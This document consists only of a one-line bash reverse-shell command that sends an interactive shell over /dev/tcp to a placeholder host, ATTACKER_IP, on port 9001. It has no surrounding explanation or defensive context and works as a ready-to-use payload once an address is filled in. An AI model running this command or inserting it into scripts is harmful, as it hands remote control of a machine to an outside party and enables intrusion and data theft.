bash -i >& /dev/tcp/ATTACKER_IP/9001 0>&1
